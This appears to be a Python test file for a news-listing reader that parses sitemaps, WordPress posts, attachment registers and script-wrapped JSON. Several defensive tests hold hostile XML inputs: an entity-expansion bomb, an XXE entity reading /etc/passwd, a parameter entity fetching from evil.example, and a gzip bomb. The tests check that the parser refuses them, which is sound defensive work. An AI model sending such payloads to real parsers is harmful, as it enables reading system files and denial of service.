"""The kinds of listings beyond feed, page and JSON: sitemaps, WordPress, registers, scripts; and what all can filter."""

import gzip
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from config.source import Listing
from extractors.read.entry import UnreadableListing, parse_json
from extractors.read.listing import read_listing
from extractors.read.sitemap import SitemapIndex, sitemap_index
from extractors.read.wordpress import posts_address

PAGE = "https://news.example.com/list/index.html"


def rules(kind: str, **more: object) -> Listing:
    return Listing.model_validate({"kind": kind, "url": PAGE, **more})


def read(text: str, listing: Listing):
    return read_listing(text.encode(), None, PAGE, listing)


def rows(text: str, listing: Listing) -> list[tuple[str, str | None, str | None]]:
    return [(k.url, k.title, k.published and k.published.isoformat()) for k in read(text, listing)]


URLSET = '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" {more}>{urls}</urlset>'


def urlset(*urls: str, more: str = "") -> str:
    return URLSET.format(urls="".join(f"<url>{url}</url>" for url in urls), more=more)


def test_a_sitemap_is_read_newest_first_and_the_last_change_is_not_the_time_of_publication():
    text = urlset(
        "<loc>https://a.example/old.html</loc><lastmod>2024-01-01</lastmod>",
        "<loc> https://a.example/new.html </loc><lastmod>2026-01-09T08:00:00+08:00</lastmod>",
        "<loc>https://a.example/2025-03/02/c_1.htm?a=1&b=2</loc><lastmod>2025-03-04</lastmod>",
        "<loc>https://a.example/never.html</loc>",
    )
    assert rows(text, rules("sitemap")) == [
        ("https://a.example/new.html", None, None),
        ("https://a.example/2025-03/02/c_1.htm?a=1&b=2", None, "2025-03-02T00:00:00+08:00"),
        ("https://a.example/old.html", None, None),
        ("https://a.example/never.html", None, None),
    ]


def test_a_news_sitemap_has_titles_and_times():
    news = "<n:news><n:publication><n:name>示例网</n:name></n:publication><n:publication_date>2026-01-09T07:30:00Z</n:publication_date><n:title>晨星 &amp; 江海</n:title></n:news>"
    image = "<i:image><i:loc>https://a.example/picture.jpg</i:loc></i:image>"
    text = urlset(
        f"{image}<loc>https://a.example/1</loc>{news}",
        more='xmlns:n="http://www.google.com/schemas/sitemap-news/0.9" xmlns:i="http://www.google.com/schemas/sitemap-image/1.1"',
    )
    assert rows(text, rules("sitemap")) == [("https://a.example/1", "晨星 & 江海", "2026-01-09T15:30:00+08:00")]


def index(*entries: tuple[str, str]) -> bytes:
    body = "".join(
        f"<sitemap><loc>{loc}</loc>{f'<lastmod>{day}</lastmod>' if day else ''}</sitemap>" for loc, day in entries
    )
    return f'<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{body}</sitemapindex>'.encode()


def test_an_index_names_its_sitemaps_newest_first_and_only_those_of_its_host():
    found = sitemap_index(
        index(
            ("/2024.xml", "2024-12-31"),
            ("https://news.example.com/2026.xml", "2026-03-01"),
            ("https://elsewhere.example/x.xml", "2026-03-02"),
        ),
        None,
        PAGE,
    )
    assert found == SitemapIndex(("https://news.example.com/2026.xml", "https://news.example.com/2024.xml"), dated=True)
    undated = sitemap_index(index(("/a.xml", ""), ("/b.xml", "2026-03-01")), None, PAGE)
    assert undated is not None and not undated.dated
    assert sitemap_index(urlset().encode(), None, PAGE) is None


def test_a_sitemap_that_comes_as_a_gzip_file_is_unpacked_but_a_bomb_is_not():
    packed = gzip.compress(urlset("<loc>https://a.example/1</loc>").encode())
    assert [k.url for k in read_listing(packed, "application/gzip", PAGE, rules("sitemap"))] == ["https://a.example/1"]
    assert sitemap_index(gzip.compress(index(("/a.xml", ""))), None, PAGE) is not None
    with pytest.raises(UnreadableListing, match="unpacks to more than"):
        read_listing(gzip.compress(b" " * 50_000_000), None, PAGE, rules("sitemap"))
    with pytest.raises(UnreadableListing, match="not a whole gzip file"):
        read_listing(packed[:-10], None, PAGE, rules("sitemap"))


BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!doctype x [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>'


@pytest.mark.parametrize("kind", ["feed", "sitemap"])
@pytest.mark.parametrize("dtd", [BOMB, EXTERNAL, PARAMETER, f"<!-- a --> <?pi x?> {BOMB}"])
def test_f26_a_document_that_declares_entities_is_refused(kind, dtd):
    document = (
        '<rss version="2.0"><channel><item><title>&b;</title><link>https://a.example/1</link></item></channel></rss>'
    )
    if kind == "sitemap":
        document = urlset("<loc>https://a.example/&a;</loc>").partition("?>\n")[2]
    with pytest.raises(UnreadableListing, match="declares entities"):
        read(f'<?xml version="1.0"?>{dtd}{document}', rules(kind))


def test_f26_an_external_dtd_is_neither_fetched_nor_a_reason_to_refuse():
    dtd = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://127.0.0.1:1/rss-0.91.dtd">'
    feed = f'{dtd}<rss version="0.91"><channel><item><title>晨星&nbsp;江海</title><link>https://a.example/1</link></item></channel></rss>'
    assert rows(feed, rules("feed")) == [("https://a.example/1", "晨星 江海", None)]


def test_f26_an_article_about_entities_is_no_attack():
    feed = '<rss version="2.0"><channel><item><title>XXE</title><link>https://a.example/1</link><description><![CDATA[<p><!ENTITY a "b"></p>]]></description></item></channel></rss>'
    assert [title for _, title, _ in rows(feed, rules("feed"))] == ["XXE"]


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("<html><title>示例网</title></html>", "an HTML page where a sitemap was expected"),
        ("<urlset><url>", "not a sitemap: "),
        ("<rss/>", "its root is <rss>"),
        (index(("/a.xml", "")).decode(), "an index of sitemaps where a sitemap was expected"),
        ("<a>" * 100_000, "not a sitemap"),
    ],
)
def test_what_is_no_sitemap_says_so(text, says):
    with pytest.raises(UnreadableListing, match=says):
        read(text, rules("sitemap"))


@given(st.text(max_size=200))
def test_whatever_comes_as_a_sitemap_is_read_or_refused(text):
    for body in (text, f"<urlset><url><loc>{text}</loc></url></urlset>", f"<!DOCTYPE {text}><urlset/>"):
        try:
            read(body, rules("sitemap"))
        except UnreadableListing as error:
            assert str(error)


def test_wordpress_posts_carry_their_text_and_their_time_is_utc():
    post = {
        "date": "2026-03-28T09:24:38",
        "date_gmt": "2026-03-28T01:24:38",
        "link": "https://a.example/2026/03/1.html",
        "title": {"rendered": "晨星 &#8211; 江海"},
        "content": {"rendered": "<p>全文</p>"},
    }
    local = {**post, "date_gmt": None, "link": "https://a.example/2"}
    links = read(json.dumps([post, local]), rules("wordpress"))
    assert [(k.url, k.title, k.html) for k in links] == [
        ("https://a.example/2026/03/1.html", "晨星 – 江海", "<p>全文</p>"),
        ("https://a.example/2", "晨星 – 江海", "<p>全文</p>"),
    ]
    assert {k.published.isoformat() for k in links} == {"2026-03-28T09:24:38+08:00"}


def test_wordpress_says_why_it_gives_no_posts():
    refusal = {"code": "rest_forbidden", "message": "抱歉，您不能这么做。"}
    with pytest.raises(UnreadableListing, match="no list of posts: 抱歉，您不能这么做。"):
        read(json.dumps(refusal), rules("wordpress"))


@pytest.mark.parametrize("site", ["https://a.example", "https://a.example/", "https://a.example/blog/"])
def test_the_posts_of_a_site_are_asked_for_below_its_root(site):
    address = posts_address(site, 3)
    assert address.startswith(f"{site.rstrip('/')}/wp-json/wp/v2/posts?") and "page=3" in address


REGISTER = """<div id=main><p>各相关单位：</p><a href="/about.htm">关于</a>
<p><a href="/cms/download.jsp?filepath=abc&fText=%E6%B8%85%E5%8D%95%EF%BC%882026%E5%B9%B47%E6%9C%88%EF%BC%89.docx"></a></p>
<p><a href="files/list.PDF?v=2">清单（2026年5月）</a><a href="x.xlsx"><b>清单</b>（三月）</a><a href="/d?id=9">附件：清单.zip</a></p></div>"""


def test_the_attachments_of_a_register_are_its_list():
    assert [(url.partition("?")[0], title) for url, title, _ in rows(REGISTER, rules("register"))] == [
        ("https://news.example.com/cms/download.jsp", "清单（2026年7月）.docx"),
        ("https://news.example.com/list/files/list.PDF", "清单（2026年5月）"),
        ("https://news.example.com/list/x.xlsx", "清单（三月）"),
        ("https://news.example.com/d", "附件：清单.zip"),
    ]
    chosen = rows(REGISTER, rules("register", items="#main a[href*='download.jsp']"))
    assert [title for _, title, _ in chosen] == ["清单（2026年7月）.docx"]


def test_a_register_behind_a_challenge_is_blocked_not_empty():
    with pytest.raises(UnreadableListing, match=r"^blocked"):
        read("<title>安全验证</title><p>请完成验证</p>", rules("register"))


VALUE = '{"list": [{"url": "https://a.example/1"}]}'


@pytest.mark.parametrize(
    "script",
    [
        VALUE,
        f"callback({VALUE})",
        f"/**/ jQuery1_2.cb['x']({VALUE});",
        f"var data = {VALUE};",
        f";window.data={VALUE}",
        f"try{{cb({VALUE});}}catch(e){{}};",
    ],
)
def test_json_is_taken_out_of_the_script_around_it(script):
    listing = rules("json", items="list", link="url")
    assert [url for url, _, _ in rows(script, listing)] == ["https://a.example/1"]


@pytest.mark.parametrize("script", ["cb({)", "cb({}); evil()", "a b({})", "cb({}", "if(1){x({})}"])
def test_other_scripts_are_not_json(script):
    if script == "cb({}":  # cut off where nothing is lost
        assert parse_json(script) == {}
        return
    with pytest.raises(UnreadableListing, match="not JSON"):
        parse_json(script)


@pytest.mark.parametrize("kind", ["feed", "html", "json", "sitemap", "register"])
def test_every_kind_takes_only_the_addresses_that_it_includes(kind):
    urls = ["https://a.example/2026-03/1.html", "https://a.example/about.html"]
    text, more = {
        "feed": (f"<rss version='2.0'><channel>{''.join(f'<item><link>{u}</link></item>' for u in urls)}</channel></rss>", {}),
        "html": ("".join(f"<a href='{u}'>x</a>" for u in urls), {"items": "a"}),
        "json": (json.dumps([{"u": u} for u in urls]), {"link": "u"}),
        "sitemap": (urlset(*(f"<loc>{u}</loc>" for u in urls)), {}),
        "register": ("".join(f"<a href='{u}'>附件</a>" for u in urls), {}),
    }[kind]  # fmt: skip
    assert len(read(text, rules(kind, **more))) == 2
    assert [url for url, _, _ in rows(text, rules(kind, include=r"/\d{4}-\d\d/", **more))] == urls[:1]
